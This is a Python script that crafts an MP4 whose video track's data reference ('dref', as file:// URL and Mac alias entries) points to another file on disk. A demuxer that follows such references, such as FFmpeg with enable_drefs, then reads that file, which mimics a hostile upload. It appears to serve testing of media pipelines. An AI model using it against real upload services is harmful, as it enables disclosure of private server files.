#!/usr/bin/env python3
"""Makes an MP4 whose video samples live in another file, named by its
data reference ('dref'), as a hostile upload would:

  mp4_external_dref.py SOURCE.mp4 OUTSIDE.mp4 OUT.mp4

SOURCE.mp4 is a plain MP4 with its 'moov' after its 'mdat' (ffmpeg's
default), whose video samples are where OUTSIDE.mp4 has them (OUTSIDE is a
copy of SOURCE kept elsewhere). OUT.mp4 is SOURCE with every byte of its
'mdat' zeroed and the video track's 'dref' replaced by two entries naming
OUTSIDE.mp4:
  1. 'url ' without the self-contained flag, its location the file:// URL of
     OUTSIDE (what ISO 14496-12 defines; FFmpeg 5.1 skips these entries);
  2. 'alis', a Mac alias record with OUTSIDE's absolute path and the levels
     from OUT's directory to it (what FFmpeg's mov demuxer follows when its
     enable_drefs option is on: it opens "<OUT's dir>/../<dir>/<name>").
A demuxer that reads OUT without following the reference finds only zeros
for the video; one that follows it reads OUTSIDE's pictures.
"""
import os
import struct
import sys

CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def boxes(data, start, end):
    pos = start
    while pos + 8 <= end:
        size, kind = struct.unpack(">I4s", data[pos:pos + 8])
        if size < 8 or pos + size > end:
            sys.exit(f"bad box {kind!r} at {pos}")
        yield pos, size, kind
        pos += size


def url_entry(location):
    body = b"\0\0\0\0" + location.encode() + b"\0"  # version 0, flags 0: not in this file
    return struct.pack(">I4s", 8 + len(body), b"url ") + body


def alis_entry(path, nlvl_from, nlvl_to):
    name = os.path.basename(path).encode()[:63]
    body = b"\0\0\0\0"                                   # version, flags
    body += b"\0" * 10                                   # creator, type, record size, version, kind
    body += bytes([0]) + b"\0" * 27                      # volume name (none)
    body += b"\0" * 12                                   # volume date, fs type, disk type, parent dir id
    body += bytes([len(name)]) + name.ljust(63, b"\0")   # file name
    body += b"\0" * 16                                   # file id, date, creator, type
    body += struct.pack(">hh", nlvl_from, nlvl_to)       # levels up from the alias, down to the target
    body += b"\0" * 16                                   # volume attributes, fs id, reserved
    p = path.encode()
    p_padded = p + (b"\0" if len(p) % 2 else b"")
    body += struct.pack(">hH", 2, len(p)) + p_padded     # record 2: the absolute path
    body += struct.pack(">hH", -1, 0)                    # end of records
    return struct.pack(">I4s", 8 + len(body), b"alis") + body


def main():
    src, outside, out = sys.argv[1:4]
    data = bytearray(open(src, "rb").read())
    top = list(boxes(data, 0, len(data)))
    kinds = [k for _, _, k in top]
    if b"mdat" not in kinds or b"moov" not in kinds or kinds.index(b"moov") < kinds.index(b"mdat"):
        sys.exit("SOURCE must have its moov after its mdat")
    for pos, size, kind in top:
        if kind == b"mdat":
            data[pos + 8:pos + size] = bytes(size - 8)

    outside = os.path.abspath(outside)
    # From OUT's directory: up nlvl_from - 1 levels, then the last nlvl_to
    # components of the path (FFmpeg's mov_open_dref).
    rel = os.path.relpath(outside, os.path.dirname(os.path.abspath(out)))
    ups = rel.split(os.sep).count("..")
    dref_body = b"\0\0\0\0" + struct.pack(">I", 2)
    dref_body += url_entry("file://" + outside) + alis_entry(outside, ups + 1, len(rel.split(os.sep)) - ups)
    new_dref = struct.pack(">I4s", 8 + len(dref_body), b"dref") + dref_body

    def rewrite(start, end, in_video):
        """The boxes of data[start:end] with the video track's dref replaced."""
        res = bytearray()
        for pos, size, kind in boxes(data, start, end):
            if kind == b"dref" and in_video:
                res += new_dref
            elif kind in CONTAINERS:
                video = in_video or (kind == b"trak" and is_video_trak(pos, size))
                inner = rewrite(pos + 8, pos + size, video)
                res += struct.pack(">I4s", 8 + len(inner), kind) + inner
            else:
                res += data[pos:pos + size]
        return res

    def is_video_trak(pos, size):
        h = data.find(b"hdlr", pos, pos + size)
        return h > 0 and data[h + 12:h + 16] == b"vide"

    moov = [(p, s) for p, s, k in top if k == b"moov"][0]
    before = data[:moov[0]]
    after = data[moov[0] + moov[1]:]
    open(out, "wb").write(bytes(before) + bytes(rewrite(moov[0], moov[0] + moov[1], False)) + bytes(after))


main()
